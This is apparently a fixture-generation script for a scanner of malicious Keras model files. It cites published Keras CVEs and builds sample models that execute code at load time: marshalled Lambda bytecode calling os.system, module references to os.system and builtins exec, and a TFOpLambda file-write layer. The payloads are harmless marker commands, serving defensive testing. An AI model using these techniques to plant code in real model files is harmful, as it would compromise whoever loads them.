#!/usr/bin/python3
"""Generate the Keras fixtures in tests/data/keras/ (deterministic).

Run with Debian's interpreter, which has h5py and numpy:
    /usr/bin/python3 tests/data/keras/make.py
Debian ships no Keras, so the configs below are written by hand in the shape
Keras itself writes (Keras 2 `model.to_json()` / `model.save("x.h5")`, Keras 3
`model.save("x.keras")`). Whether a real Keras would actually run the
malicious payloads is NOT proven here: nothing in this directory is ever
loaded or executed; the scanner only reads the bytes.

Malicious fixtures and the published advisories they follow:

- lambda.h5, lambda_v2.json: Keras 2 `Lambda` layer whose config.function
  holds base64 marshal bytecode of a lambda calling os.system. Keras 2
  unmarshals and runs it at load: CVE-2024-3660 ("Arbitrary code injection
  in Keras", Lambda layers in Keras before 2.13).
- lambda.keras: Keras 3 `Lambda` layer serialised as
  {"class_name": "__lambda__", "config": {"code": <base64 marshal>}}; only
  refused by Keras 3 when safe_mode=True (the default) -- the same class as
  CVE-2024-3660 for the new format.
- external_os.keras: config.json refers to an object {"module": "os",
  "class_name": "system"}: Keras 3 imports "module" and looks the name up,
  the arbitrary-module-import class of CVE-2025-1550 ("Keras safe_mode
  bypass via config.json module/function references", Keras < 3.9) and its
  follow-ups CVE-2025-9905 / CVE-2025-9906 (further safe_mode bypasses via
  module references and allowed Keras internals).
- exec_activation.keras: a Dense layer whose activation is
  {"module": "builtins", "class_name": "function", "config": "exec"}: the
  function-reference form of CVE-2025-1550.
- tfop_io.json: a Keras 2 TFOpLambda layer calling tf.io.write_file: file
  writes at inference time through a "harmless" TF op wrapper.

The marshal bytes depend on the Python version that ran this script (the
committed files came from Debian 12's Python 3.11); they are data only.
"""
import base64
import io
import json
import marshal
import os
import zipfile

import h5py
import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
# The payload a real attack would use. Compiled, never run.
EVIL_SRC = "lambda x: __import__('os').system('touch /tmp/bulwark-keras-pwned') or x"


def evil_code_b64():
    code = compile(EVIL_SRC, "<lambda>", "eval").co_consts[0]
    # Keras' func_dump: codecs.encode(marshal.dumps(code), "base64") (with newlines)
    return base64.encodebytes(marshal.dumps(code)).decode("ascii")


def dense_v2(name, units, act="relu"):
    return {"class_name": "Dense", "config": {"name": name, "trainable": True, "dtype": "float32",
            "units": units, "activation": act, "use_bias": True,
            "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
            "bias_initializer": {"class_name": "Zeros", "config": {}},
            "kernel_regularizer": None, "bias_regularizer": None, "activity_regularizer": None,
            "kernel_constraint": None, "bias_constraint": None}}


def sequential_v2(layers):
    inp = {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 8], "dtype": "float32",
           "sparse": False, "ragged": False, "name": "dense_input"}}
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [inp] + layers},
            "keras_version": "2.12.0", "backend": "tensorflow"}


def lambda_v2():
    return {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "dtype": "float32",
            "function": [evil_code_b64(), None, None], "function_type": "lambda", "module": "__main__",
            "output_shape": None, "output_shape_type": "raw", "output_shape_module": None,
            "arguments": {}}}


def benign_v2():
    return sequential_v2([dense_v2("dense", 16),
                          {"class_name": "Dropout", "config": {"name": "dropout", "trainable": True,
                           "dtype": "float32", "rate": 0.5, "noise_shape": None, "seed": None}},
                          dense_v2("dense_1", 1, "sigmoid")])


def dumps(obj):
    return json.dumps(obj, sort_keys=False, separators=(", ", ": "))


def write_h5(name, config, variable_length):
    buf = io.BytesIO()
    with h5py.File(buf, "w", track_order=False) as f:
        text = dumps(config)
        # Keras 2 stores .encode("utf8") bytes (a fixed-length string); h5py
        # stores str as a variable-length one: cover both.
        f.attrs["model_config"] = text if variable_length else np.bytes_(text.encode("utf-8"))
        f.attrs["keras_version"] = np.bytes_(b"2.12.0")
        f.attrs["backend"] = np.bytes_(b"tensorflow")
        f.attrs["training_config"] = np.bytes_(dumps({"loss": "binary_crossentropy", "metrics": None,
            "optimizer_config": {"class_name": "Adam", "config": {"name": "Adam", "learning_rate": 0.001}}}).encode())
        g = f.create_group("model_weights")
        d = g.create_group("dense").create_group("dense")
        d.create_dataset("kernel:0", data=np.arange(8 * 16, dtype="<f4").reshape(8, 16) / 100.0, track_times=False)
        d.create_dataset("bias:0", data=np.zeros(16, dtype="<f4"), track_times=False)
    with open(os.path.join(HERE, name), "wb") as out:
        out.write(buf.getvalue())


def weights_h5():
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        g = f.create_group("layers").create_group("dense").create_group("vars")
        g.create_dataset("0", data=np.ones((8, 4), dtype="<f4"), track_times=False)
        g.create_dataset("1", data=np.zeros(4, dtype="<f4"), track_times=False)
    return buf.getvalue()


def obj3(module, cls, config, registered=None):
    return {"module": module, "class_name": cls, "config": config, "registered_name": registered}


def dense_v3(name, units, activation="relu"):
    return obj3("keras.layers", "Dense", {"name": name, "trainable": True,
                "dtype": obj3("keras", "DTypePolicy", {"name": "float32"}),
                "units": units, "activation": activation, "use_bias": True,
                "kernel_initializer": obj3("keras.initializers", "GlorotUniform", {"seed": None}),
                "bias_initializer": obj3("keras.initializers", "Zeros", {}),
                "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None,
                "bias_constraint": None}, None)


def model_v3(layers):
    inp = obj3("keras.layers", "InputLayer", {"batch_shape": [None, 8], "dtype": "float32", "sparse": False,
                                              "name": "input_layer"})
    m = obj3("keras", "Sequential", {"name": "sequential", "trainable": True,
                                     "dtype": obj3("keras", "DTypePolicy", {"name": "float32"}),
                                     "layers": [inp] + layers, "build_input_shape": [None, 8]})
    m["build_config"] = {"input_shape": [None, 8]}
    return m


def write_keras(name, config):
    meta = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
    with zipfile.ZipFile(os.path.join(HERE, name), "w", compression=zipfile.ZIP_STORED) as z:
        for member, data in (("metadata.json", dumps(meta).encode()), ("config.json", dumps(config).encode()),
                             ("model.weights.h5", weights_h5())):
            info = zipfile.ZipInfo(member, date_time=(2025, 1, 1, 0, 0, 0))
            info.external_attr = 0o644 << 16
            z.writestr(info, data)


def main():
    write_h5("benign.h5", benign_v2(), variable_length=False)
    write_h5("lambda.h5", sequential_v2([dense_v2("dense", 16), lambda_v2()]), variable_length=True)

    with open(os.path.join(HERE, "benign_v2.json"), "w") as f:
        f.write(dumps(benign_v2()))
    with open(os.path.join(HERE, "lambda_v2.json"), "w") as f:
        f.write(dumps(sequential_v2([lambda_v2()])))
    tfop = {"class_name": "TFOpLambda", "config": {"name": "tf.io.write_file", "trainable": True,
            "dtype": "float32", "function": "io.write_file"}}
    add = {"class_name": "TFOpLambda", "config": {"name": "tf.math.add", "trainable": True,
           "dtype": "float32", "function": "math.add"}}
    with open(os.path.join(HERE, "tfop_io.json"), "w") as f:
        f.write(dumps(sequential_v2([add, tfop])))

    write_keras("benign.keras", model_v3([dense_v3("dense", 4)]))
    lam = obj3("keras.layers", "Lambda", {"name": "lambda", "trainable": True,
               "function": {"class_name": "__lambda__", "config": {"code": evil_code_b64(), "defaults": None,
                                                                   "closure": None}},
               "arguments": {}}, None)
    write_keras("lambda.keras", model_v3([dense_v3("dense", 4), lam]))
    write_keras("external_os.keras", model_v3([dense_v3("dense", 4),
                                               obj3("os", "system", {"command": "id"}, "system")]))
    write_keras("exec_activation.keras",
                model_v3([dense_v3("dense", 4, obj3("builtins", "function", "exec", "exec"))]))


if __name__ == "__main__":
    main()
